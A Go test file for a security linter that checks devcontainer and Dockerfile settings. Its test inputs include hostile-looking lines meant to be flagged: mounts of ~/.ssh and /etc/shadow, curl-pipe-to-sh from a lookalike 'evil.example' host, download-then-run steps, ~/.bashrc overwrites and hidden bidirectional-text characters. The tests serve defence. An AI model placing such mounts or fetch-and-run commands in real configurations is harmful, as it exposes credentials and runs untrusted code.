package lint_test

import (
	"strings"
	"testing"

	"github.com/org/claude-sandbox/devcontainer"
	"github.com/org/claude-sandbox/internal/diag"
)

// graveness returns how severe a rule's findings in a tree are: "" for none.
func graveness(t *testing.T, tree devcontainer.Memory, rule string) diag.Severity {
	t.Helper()
	for _, f := range judge(t, tree) {
		if f.Rule == rule {
			return f.Severity
		}
	}
	return ""
}

// No more is said of a thing than it leads to, and no less.
func TestGraveness(t *testing.T) {
	const agent = `, "customizations": {"vscode": {"extensions": ["anthropic.claude-code"]}}`
	mount := func(source string) string { return image(`"mounts": ["type=bind,source=` + source + `,target=/x"]`) }
	docker := func(lines string) string { return "\x00FROM debian:13\n" + lines + "\nUSER dev\n" } // a Dockerfile
	for _, c := range []struct {
		name, src, rule string
		want            diag.Severity
	}{
		{"a checkout next to this one", mount("${localWorkspaceFolder}/../raft"), "SBX407", "note"},
		{"the same for an agent", strings.TrimSuffix(mount("${localWorkspaceFolder}/../raft"), "}") + agent + "}", "SBX407", "error"},
		{"the folder above", mount("${localWorkspaceFolder}/.."), "SBX407", "warning"},
		{"two folders up", mount("${localWorkspaceFolder}/../../x"), "SBX407", "warning"},
		{"keys next to the project", mount("${localWorkspaceFolder}/../.ssh"), "SBX407", "error"},
		{"system files by way of the project", mount("${localWorkspaceFolder}/../../../etc/shadow"), "SBX407", "error"},
		{"home", mount("${localEnv:HOME}/.ssh"), "SBX407", "error"},

		{"folders for mounts", image(`"initializeCommand": "mkdir -p ~/.cache/x && touch ~/.cache/x/y"`), "SBX408", "note"},
		{"folders, as an array", image(`"initializeCommand": ["mkdir", "-p", "x"]`), "SBX408", "note"},
		{"folders for an agent", strings.TrimSuffix(image(`"initializeCommand": "mkdir -p x"`), "}") + agent + "}", "SBX408", "warning"},
		{"folders and a script", image(`"initializeCommand": "mkdir -p x && ./setup.sh"`), "SBX408", "warning"},
		{"folders and a file", image(`"initializeCommand": "mkdir -p x; true > ~/.bashrc"`), "SBX408", "warning"},
		{"a project's own mkdir", image(`"initializeCommand": "./mkdir x"`), "SBX408", "warning"},
		{"folders and a substitution", image(`"initializeCommand": "mkdir $(make x)"`), "SBX408", "warning"},

		{"the first process's user, beside one that is there", `{"image": "node:22", "containerUser": "vscode", "remoteUser": "node"}`, "SBX703",
			"error"},
		{"users that are there", `{"image": "node:22", "containerUser": "node", "remoteUser": "node"}`, "SBX703", ""},
		{"the same in a Dockerfile", "\x00FROM debian:13\nRUN useradd dev\nUSER dev\n", "SBX703", ""},
		{"a collection misspelt", `{"image": "mcr.microsoft.com/devcontainer/base:debian"}`, "SBX322", "warning"},
		{"an image misspelt", `{"image": "mcr.microsoft.com/devcontainers/pyhton:3"}`, "SBX322", "warning"},
		{"an image that is published", `{"image": "mcr.microsoft.com/devcontainers/jekyll:2"}`, "SBX322", ""},
		{"a program that bash finds", image(`"postCreateCommand": "bash devcontainer_setup"`), "SBX318", ""},
		{"a drive in Compose", image(`"runArgs": ["-v", "c:/src:/x"]`), "SBX316", ""},
		{"what is not replaced in a here-document", docker("COPY <<'EOF' /x\necho $HOME\nEOF"), "SBX747", ""},
		{"what is replaced in one", docker("COPY <<EOF /x\necho $HOME\nEOF"), "SBX747", "warning"},
		{"an owner that is gone", image(`"features": {"ghcr.io/devcontainers-contrib/features/x:2": {}}`), "SBX604", "warning"},
		{"vendor's installer", docker("RUN curl --proto '=https' -sSf https://sh.rustup.rs | sh -s -- -y"), "SBX705", "note"},
		{"vendor's installer without TLS's check", docker("RUN curl -k https://sh.rustup.rs | sh"), "SBX705", "warning"},
		{"vendor's name without TLS", docker("RUN curl http://sh.rustup.rs | sh"), "SBX705", "warning"},
		{"a name that looks like it", docker("RUN curl https://sh.rustup.rs.evil.example/ | sh"), "SBX705", "warning"},
		{"anybody's installer", docker("RUN curl https://x.example/i | sh"), "SBX705", "warning"},
		{"anybody's repository", docker("RUN curl https://raw.githubusercontent.com/x/y/main/i.sh | sh"), "SBX705", "warning"},
		{"saved, then run", docker("RUN curl https://x.example/i > a.sh; bash a.sh"), "SBX705", "warning"},
		{"saved by -o, then run", docker("RUN curl -o /tmp/a https://x.example/i && chmod +x /tmp/a && /tmp/a"), "SBX705", "warning"},
		{"saved by its name, then run", docker("RUN wget https://x.example/a.sh && sh ./a.sh"), "SBX705", "warning"},
		{"saved, compared, run", docker("RUN curl -o a https://x.example/i && echo \"$SUM  a\" | sha256sum -c && sh a"), "SBX705", ""},
		{"saved and kept", docker("RUN curl -o /usr/local/bin/a https://x.example/i && chmod +x /usr/local/bin/a"), "SBX705", ""},
		{"saved in a hook, then run", image(`"postCreateCommand": "curl https://x.example/i > a.sh; bash a.sh"`), "SBX608", "warning"},
		{"vendor's installer in a hook", image(`"postCreateCommand": "curl -fsSL https://claude.ai/install.sh | bash"`), "SBX608", "note"},

		{"password of a development database", image(`"containerEnv": {"DB_PASSWORD": "shop-user-password-321"}`), "SBX501", "note"},
		{"the default of one", image(`"containerEnv": {"POSTGRES_PASSWORD": "postgres"}`), "SBX501", ""},
		{"somebody's password", image(`"containerEnv": {"DB_PASSWORD": "hunter2"}`), "SBX501", "note"},
		{"the key of AWS's pages", image(`"containerEnv": {"AWS_ACCESS_KEY_ID": "AKIAIOSFODNN7EXAMPLE"}`), "SBX501", ""},
		{"a key of that form", image(`"containerEnv": {"AWS_ACCESS_KEY_ID": "AKIAIOSFODNN7ABCDEFG"}`), "SBX501", "error"},
		{"a token with dashes", image(`"containerEnv": {"API_KEY": "3f8a9c12-77de-4b1a-9f00-aa12bb34cc56"}`), "SBX501", "error"},

		{"a password in ENV", docker("ENV DB_PASSWORD=hunter2"), "SBX706", "warning"},
		{"a password in ARG", docker("ARG DB_PASSWORD=hunter2"), "SBX706", "warning"},
		{"a default password in ENV", docker("ENV POSTGRES_PASSWORD=postgres"), "SBX706", ""},
		{"an empty password in ENV", docker("ENV DB_PASSWORD="), "SBX706", ""},
		{"an argument for a password", docker("ARG DB_PASSWORD"), "SBX706", "warning"},

		{"a request for the cache's sake", docker(`ADD "https://api.github.com/repos/x/y/branches/main" skipcache`), "SBX709", ""},
		{"anybody's file", docker("ADD https://x.example/y /y"), "SBX709", "warning"},
		{"text with an escaped dollar sign", image(`"containerEnv": {"F": "[$${severity}]"}`), "SBX304", ""},
		{"an unknown variable", image(`"containerEnv": {"F": "[${severity}]"}`), "SBX304", "warning"},
		{"a folder of the repository, seen from the configuration", image(`"mounts": ["type=bind,source=../data,target=/x"]`), "SBX407", ""},
		{"a folder out of the repository", image(`"mounts": ["type=bind,source=../../data,target=/x"]`), "SBX407", "error"},
		{"an image whose user is not root", "\x00FROM gcr.io/distroless/static:nonroot\n", "SBX725", ""},
		{"public certificates", docker("COPY rds-global-bundle.pem /etc/"), "SBX714", ""},
		{"a key", docker("COPY server.pem /etc/"), "SBX714", "warning"},
		{"a placeholder of an image", "\x00FROM REPLACE-ME\n", "SBX726", ""},

		{"a command in another order", image(`"postCreateCommand": "echo ` + "\u202e" + `dlrow"`), "SBX106", "error"},
		{"an isolate in a Dockerfile", docker("RUN echo \u2066x"), "SBX106", "error"},
		{"a joined emoji", image(`"name": "` + "\U0001F469\u200d\U0001F4BB \u2013 x" + `"`), "SBX106", ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			tree := devcontainer.Memory{".devcontainer/devcontainer.json": c.src}
			if dockerfile, ok := strings.CutPrefix(c.src, "\x00"); ok {
				tree[".devcontainer/devcontainer.json"] = `{"build": {"dockerfile": "Dockerfile"}}`
				tree[".devcontainer/Dockerfile"] = dockerfile
			}
			if got := graveness(t, tree, c.rule); got != c.want {
				t.Errorf("%s is %q, want %q:\n%s", c.rule, got, c.want, c.src)
			}
		})
	}
}

// Without a word about it a build gets the folder of its Dockerfile, as the reference CLI has it.
func TestContextIsTheDockerfilesFolder(t *testing.T) {
	tree := devcontainer.Memory{
		".devcontainer/one/devcontainer.json": `{"build": {"dockerfile": "../shared.Dockerfile"}}`,
		".devcontainer/shared.Dockerfile":     "FROM debian:13\nCOPY hello.txt /\n",
		".devcontainer/hello.txt":             "",
	}
	p, err := devcontainer.Load(tree, ".devcontainer/one/devcontainer.json", ".devcontainer/one/devcontainer.json")
	if err != nil {
		t.Fatal(err)
	}
	if p.Context() != ".devcontainer" {
		t.Error(p.Context())
	}
}

// Our own user as the container's user ends the container, because sbx-init starts as him.
func TestTheAgentIsNotTheFirstProcess(t *testing.T) {
	const dockerfile = "FROM debian:13\nRUN useradd -m agent\nENTRYPOINT [\"/usr/local/sbin/sbx-init\", \"run\", \"--\"]\n"
	const build = `"build": {"dockerfile": "Dockerfile"}`
	for name, c := range map[string]struct{ old, replacement, dockerfile, want string }{
		"by property":      {`"remoteUser": "agent"`, `"containerUser": "agent", "remoteUser": "agent"`, "", "SBX821"},
		"by option":        {`"image": "a:1"`, `"image": "a:1", "runArgs": ["--user=agent"]`, "", "SBX821"},
		"by root's name":   {`"remoteUser": "agent"`, `"containerUser": "root", "remoteUser": "agent"`, "", ""},
		"of a Dockerfile":  {`"image": "a:1"`, build + `, "containerUser": "agent"`, dockerfile, "SBX821"},
		"in a Dockerfile":  {`"image": "a:1"`, build, dockerfile + "USER agent\n", "SBX821"},
		"of root after it": {`"image": "a:1"`, build + `, "containerUser": "root"`, dockerfile + "USER agent\n", ""},
	} {
		tree := around()
		if c.dockerfile != "" {
			tree[".devcontainer/Dockerfile"] = c.dockerfile
		}
		got := ""
		for _, f := range check(t, with(t, c.old, c.replacement), tree) {
			if f.Rule == "SBX821" {
				got = f.Rule
			}
		}
		if got != c.want {
			t.Errorf("%s: %q, want %q", name, got, c.want)
		}
	}
}
